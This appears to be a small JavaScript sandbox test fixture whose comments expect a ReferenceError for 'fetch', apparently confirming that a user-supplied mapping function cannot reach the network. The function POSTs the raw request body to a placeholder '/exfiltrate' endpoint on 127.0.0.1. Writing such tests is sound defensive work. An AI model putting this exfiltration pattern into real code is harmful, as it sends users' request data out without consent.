// expect: ReferenceError
// message: fetch
async function map(request) {
  const response = await fetch('http://127.0.0.1:9/exfiltrate', { method: 'POST', body: request.rawBody });
  return { targetUserIds: [await response.text()] };
}
